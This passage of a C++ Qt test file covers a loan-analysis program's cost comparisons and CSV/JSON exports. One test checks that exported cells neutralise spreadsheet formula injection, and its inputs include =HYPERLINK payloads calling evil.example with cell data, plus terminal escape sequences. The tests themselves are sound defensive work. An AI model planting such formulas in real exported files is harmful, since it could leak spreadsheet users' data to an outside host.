        QCOMPARE(cents(cost->get(deal.loans[0]).value), cents(20000 + 1800 + 1500 + 360 * spreadsheetPmt(180000, 7, 360)));
        QCOMPARE(cost->get(deal.loans[2]).value, 200000.0);
        QCOMPARE(bestLoan(deal, *cost), 2);

        const Measure offer = loanMeasure(LoanMeasureId::HighestOffer).get(deal.loans[2]);
        QVERIFY(!offer.isKnown());
        QCOMPARE(offer.reason, QStringLiteral("There is no loan amount: a higher price would need a loan that no one offered."));
        QVERIFY(loanMeasure(LoanMeasureId::HighestOffer).get(deal.loans[0]).isKnown());
    }

    // A text of the deal that a spreadsheet would run as a formula comes out as plain text, in
    // every CSV and every column that carries one: the file's name, the description, the lender.
    void csvTextsNeverRunAsFormulas_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("cell");
        QTest::newRow("sum") << "=2+2" << "'=2+2";
        QTest::newRow("at") << "@SUM(A1:A2)" << "'@SUM(A1:A2)";
        QTest::newRow("plus") << "+4" << "'+4";
        QTest::newRow("minus") << "-2+3" << "'-2+3";
        QTest::newRow("spaces before") << "  =1+1" << "'  =1+1";
        QTest::newRow("link") << "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")"
                              << "'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")";
        QTest::newRow("equals inside") << "Harbor = Bank" << "Harbor = Bank";
        QTest::newRow("plain") << "Harbor Bank" << "Harbor Bank";
        // Control characters reach no terminal or spreadsheet; a cell stays on its line.
        QTest::newRow("tab") << "\t=1+1" << "' =1+1";
        QTest::newRow("carriage return") << "\rX" << "' X";
        // A character that becomes a space before a formula is guarded as written.
        QTest::newRow("control character, then a link") << "\x01=HYPERLINK(\"http://evil.example\")"
                                                         << "' =HYPERLINK(\"http://evil.example\")";
        QTest::newRow("next line, then plus") << "\u0085+1" << "' +1";
        QTest::newRow("line separator, then at") << "\u2028@SUM(A1)" << "' @SUM(A1)";
        QTest::newRow("no-break space, then minus") << "\u00a0-1" << "'\u00a0-1";
        QTest::newRow("NUL and escape") << QString::fromUtf8("A\0B\x1b]2;T\x07" "C", 10) << "A B ]2;T C";
        QTest::newRow("delete") << "A\x7f" "B" << "A B";
        QTest::newRow("line ends") << QString::fromUtf8("First\nSecond\r\nThird\u2028Fourth")
                                   << "First Second  Third Fourth";
    }
    void csvTextsNeverRunAsFormulas()
    {
        QFETCH(QString, text);
        QFETCH(QString, cell);
        DealRecord record = fiveLoans();
        record.m_lender[1] = text;
        record.m_description = text;
        const DealAnalysis deal = analyze(record);

        const QList<QStringList> comparison = parseCsv(AnalysisExport::comparisonCsv(record, deal));
        QCOMPARE(comparison.at(1).at(2), cell);
        const QList<QStringList> many = parseCsv(AnalysisExport::dealsCsvHeader()
                                                 + AnalysisExport::dealCsvLines(text + ".zant", record, deal));
        const QStringList &second = many.at(2);
        QCOMPARE(second.at(many.at(0).indexOf("file")), cell + ".zant");
        QCOMPARE(second.at(many.at(0).indexOf("description")), cell);
        QCOMPARE(second.at(many.at(0).indexOf("lender")), cell);
    }

    // Figures the program writes stay numbers, a loss with its minus sign.
    void csvNegativeFiguresStayNumbers()
    {
        DealRecord record = fiveLoans();
        record.m_interestRate[1].m_value = 20;
        const DealAnalysis deal = analyze(record);
        QVERIFY(deal.loans[1].safetyCashFlow.value < 0);
        const QString expected = QString::number(deal.loans[1].safetyCashFlow.value, 'f', 2);
        const QList<QStringList> many = parseCsv(AnalysisExport::dealsCsvHeader()
                                                 + AnalysisExport::dealCsvLines("deal.zant", record, deal));
        QCOMPARE(many.at(2).at(many.at(0).indexOf("safety_cash_flow")), expected);
        const QList<QStringList> comparison = parseCsv(AnalysisExport::comparisonCsv(record, deal));
        bool found = false;
        for (const QStringList &line : comparison)
            found = found || (line.constFirst() == "Safety Cash Flow" && line.at(2) == expected);
        QVERIFY(found);
    }

    // The window's CSV for the user's spreadsheet: a byte-order mark, the locale's decimal
    // separator and ";" between cells where that separator is ","; it carries what was typed,
    // and the schedule says whose it is.
    void spreadsheetCsvFollowsTheLocale_data()
    {
        QTest::addColumn<QString>("locale");
        QTest::addColumn<QString>("separator");
        QTest::addColumn<QString>("point");
        QTest::newRow("en_US") << "en_US" << "," << ".";
        QTest::newRow("de_DE") << "de_DE" << ";" << ",";
        QTest::newRow("fr_FR") << "fr_FR" << ";" << ",";
        QTest::newRow("de_CH") << "de_CH" << "," << ".";
    }
    void spreadsheetCsvFollowsTheLocale()
    {
        QFETCH(QString, locale);
        QFETCH(QString, separator);
        QFETCH(QString, point);
        LocaleServices::pinLocale(locale);
        DealRecord record = fiveLoans();
        record.m_description = QStringLiteral("Duplex; Elm St.");
        record.m_interestRate[1].m_value = 6.875;
        const DealAnalysis deal = analyze(record);
        const auto decimal = [&point](const char *number) { return QString::fromLatin1(number).replace(".", point); };

        const QByteArray bytes = AnalysisExport::comparisonCsv(record, deal);
        QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
        const QList<QStringList> comparison = parseCsv(bytes, separator.at(0));
        for (const QStringList &line : comparison)
            QCOMPARE(line.size(), 1 + MAX_LOANS);
        const auto row = [&](int at) {
            QStringList line = comparison.at(at);
            line.removeFirst();
            return line;
        };
        const auto rowOf = [&](const char *label) {
            for (int at = 0; at < comparison.size(); ++at) {
                if (comparison.at(at).constFirst() == QCoreApplication::translate("Analysis", label))
                    return row(at);
            }
            return QStringList();
        };
        QCOMPARE(row(1).constFirst(), QStringLiteral("First, \"Best\" Bank Branch 2"));
        QCOMPARE(row(2), QStringList(5, record.m_description));
        QCOMPARE(row(3), QStringList(5, decimal("200000.00")));          // the price
        QCOMPARE(row(7), QStringList(5, decimal("0.100000")));           // the safety margin
        QCOMPARE(row(8), QStringList({decimal("20000.00"), decimal("40000.00"), decimal("200000.00"),
                                      decimal("20000.00"), decimal("20000.00")}));
        QCOMPARE(row(9), QStringList({decimal("0.070000"), decimal("0.068750"), decimal("0.070000"),
                                      decimal("0.000000"), decimal("0.070000")}));
        QCOMPARE(row(10), QStringList({"30", "15", "30", "30", "0"}));
        QCOMPARE(rowOf("Total Interest").at(0), decimal("251116.02"));
        QCOMPARE(rowOf("Total Interest").at(4), QString());
        QCOMPARE(rowOf("Cap Rate (Year 1)").at(0), decimal("0.081000"));

        const QByteArray scheduleBytes = AnalysisExport::scheduleCsv(record, 1, deal.loans[1].schedule, false);
        QVERIFY(scheduleBytes.startsWith("\xEF\xBB\xBF"));
        const QList<QStringList> schedule = parseCsv(scheduleBytes, separator.at(0));
        QCOMPARE(schedule.size(), 2 + 180);
        QCOMPARE(schedule.at(0).constFirst(), QCoreApplication::translate("Analysis", "Loan %1").arg(2));
        record.m_lender[1] = QStringLiteral("Harbor Bank");
        const QList<QStringList> named = parseCsv(AnalysisExport::scheduleCsv(record, 1, yearlySummary(deal.loans[1].schedule), true),
                                                  separator.at(0));
        QCOMPARE(named.at(0).constFirst(), QCoreApplication::translate("Analysis", "Loan %1: %2").arg("2", "Harbor Bank"));
        QCOMPARE(named.size(), 2 + 15);
        for (const QStringList &line : named)
            QCOMPARE(line.size(), 5);
        const QString first = decimal(qPrintable(QString::number(deal.loans[1].schedule.front().payment, 'f', 2)));
        QCOMPARE(schedule.at(2).at(1), first);
        QCOMPARE(schedule.last().at(4), decimal("0.00"));
        LocaleServices::pinLocale(QStringLiteral("en_US"));
    }

    // The command line's CSV is for scripts in any locale: "," and "." and one unit per kind
    // (shares as fractions, terms as typed); the JSON read back gives numbers and null.
    void filesReadBack()
    {
        LocaleServices::pinLocale(QStringLiteral("de_DE"));
        const DealRecord record = fiveLoans();
        const DealAnalysis deal = analyze(record);
        const QList<QStringList> many = parseCsv(AnalysisExport::dealsCsvHeader()
                                                 + AnalysisExport::dealCsvLines(QStringLiteral("a, b.zant"), record, deal));
        QCOMPARE(many.size(), 1 + MAX_LOANS);
        QCOMPARE(many.at(1).at(0), QStringLiteral("a, b.zant"));
        const auto cell = [&many](int line, const char *key) { return many.at(line).at(many.at(0).indexOf(key)); };
        QCOMPARE(cell(1, "total_interest"), QStringLiteral("251116.02"));
        QCOMPARE(cell(1, "interest_rate"), QStringLiteral("0.070000"));
        QCOMPARE(cell(1, "safety_margin"), QStringLiteral("0.100000"));
        QCOMPARE(cell(1, "cap_rate"), QStringLiteral("0.081000"));
        QCOMPARE(cell(2, "term_years"), QStringLiteral("15"));
        QCOMPARE(cell(2, "down_payment"), QStringLiteral("40000.00"));
        for (const QString &key : many.at(0))
            QVERIFY2(!key.endsWith("_percent"), qPrintable(key));

        const QJsonDocument json = QJsonDocument::fromJson(
            AnalysisExport::dealsJson({AnalysisExport::dealJsonText(QStringLiteral("deal.zant"), record, deal, 2)}));
        const QJsonObject first = json[QStringLiteral("deals")][0].toObject();
        QCOMPARE(json[QStringLiteral("format")].toString(), QStringLiteral("zantoria-analysis"));
        QCOMPARE(cents(first[QStringLiteral("loans")][0][QStringLiteral("total_interest")].toDouble()), cents(251116.02));
        QVERIFY(first[QStringLiteral("loans")][4][QStringLiteral("total_interest")].isNull());
        QCOMPARE(first[QStringLiteral("property")][QStringLiteral("cap_rate")].toDouble(), 0.081);
        QCOMPARE(first[QStringLiteral("most_safety_cash_flow")].toInt(), 3);
        QCOMPARE(first["loans"][1]["interest_rate"].toDouble(), 0.065);
        QCOMPARE(first["loans"][1]["interest_rate_percent"].toDouble(), 6.5);
        QCOMPARE(first["property"]["safety_margin"].toDouble(), 0.1);
        LocaleServices::pinLocale(QStringLiteral("en_US"));
    }
};

QTEST_GUILESS_MAIN(TestAnalysis)
#include "tst_analysis.moc"
